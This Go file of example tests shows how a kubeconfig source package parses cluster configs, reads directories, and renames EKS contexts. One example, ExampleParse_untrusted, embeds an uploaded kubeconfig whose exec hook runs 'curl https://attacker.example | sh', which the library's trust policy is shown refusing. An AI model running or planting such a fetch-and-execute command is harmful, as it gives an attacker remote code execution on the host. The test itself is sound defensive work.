package kubeconfig_test

import (
	"context"
	"errors"
	"fmt"
	"log"
	"os"
	"path/filepath"

	"github.com/clusterregistry/clusterregistry"
	"github.com/clusterregistry/clusterregistry/source/kubeconfig"
	"github.com/clusterregistry/clusterregistry/trust"
)

func ExampleParse() {
	clusters, err := kubeconfig.Parse([]byte(`
apiVersion: v1
kind: Config
current-context: prod
clusters:
- {name: prod, cluster: {server: "https://prod.example:6443"}}
contexts:
- {name: prod, context: {cluster: prod, user: admin}}
- {name: stage, context: {cluster: stage, user: admin}}
users:
- {name: admin, user: {token: do-not-print}}
`), "example.yaml")
	if err != nil {
		log.Fatal(err)
	}
	for _, c := range clusters {
		if c.Err != nil {
			fmt.Printf("%s: %v\n", c.Name, c.Err)
			continue
		}
		fmt.Printf("%s: %s default=%t\n", c.Name, c.Config.Host, c.Default)
	}
	// Output:
	// prod: https://prod.example:6443 default=true
	// stage: example.yaml: field contexts[stage].cluster: cluster "stage" not found
}

func ExampleNew() {
	// As kubectl: the file of WithPath, else $KUBECONFIG, else ~/.kube/config.
	src, err := kubeconfig.New()
	if err != nil {
		log.Fatal(err)
	}
	syncer, err := clusterregistry.NewSyncer(src, clusterregistry.ClientBuilder{})
	if err != nil {
		log.Fatal(err)
	}
	// Run also runs the source's Watch, so edits show up within a second.
	go func() { _ = syncer.Run(context.TODO()) }()
}

func ExampleNewDir() {
	dir, err := os.MkdirTemp("", "clusters")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(dir)
	for name, server := range map[string]string{"east": "https://east.example", "west": "https://west.example"} {
		kc := fmt.Sprintf(`
clusters: [{name: %[1]s, cluster: {server: %[2]q}}]
contexts: [{name: %[1]s, context: {cluster: %[1]s, user: %[1]s}}]
users: [{name: %[1]s, user: {token: t}}]
`, name, server)
		if err := os.WriteFile(filepath.Join(dir, name+".yaml"), []byte(kc), 0o600); err != nil {
			log.Fatal(err)
		}
	}

	src, err := kubeconfig.NewDir(dir, kubeconfig.WithDefault("east"))
	if err != nil {
		log.Fatal(err)
	}
	clusters, err := src.List(context.Background())
	if err != nil {
		log.Fatal(err)
	}
	for _, c := range clusters {
		fmt.Println(c.Name, c.Config.Host, c.Default)
	}
	// Output:
	// east https://east.example true
	// west https://west.example false
}

func ExampleParse_untrusted() {
	// A kubeconfig that a user uploaded asks the service to run a command.
	clusters, err := kubeconfig.Parse([]byte(`
current-context: prod
clusters: [{name: prod, cluster: {server: "https://prod.example:6443"}}]
contexts: [{name: prod, context: {cluster: prod, user: admin}}]
users:
- name: admin
  user:
    exec: {command: /bin/sh, args: [-c, "curl https://attacker.example | sh"], apiVersion: client.authentication.k8s.io/v1}
`), "upload")
	if err != nil {
		log.Fatal(err)
	}
	c := clusters[0]
	fmt.Println(c.Name, c.Config == nil, errors.Is(c.Err, trust.ErrRefused))
	fmt.Println(c.Err)
	// Output:
	// prod true true
	// upload: field users[admin].exec: refused by the source's trust policy
}

func ExampleWithRename() {
	// EKS names contexts by ARN, which holds a '/': not a valid cluster name.
	clusters, err := kubeconfig.Parse([]byte(`
current-context: arn:aws:eks:us-east-1:123456789012:cluster/prod
clusters: [{name: prod, cluster: {server: "https://prod.example"}}]
contexts: [{name: "arn:aws:eks:us-east-1:123456789012:cluster/prod", context: {cluster: prod, user: admin}}]
users: [{name: admin, user: {token: do-not-print}}]
`), "eks.yaml", kubeconfig.WithRename(kubeconfig.SanitizeName))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println(clusters[0].Name, clusters[0].Default)
	// Output: arn:aws:eks:us-east-1:123456789012:cluster-prod true
}
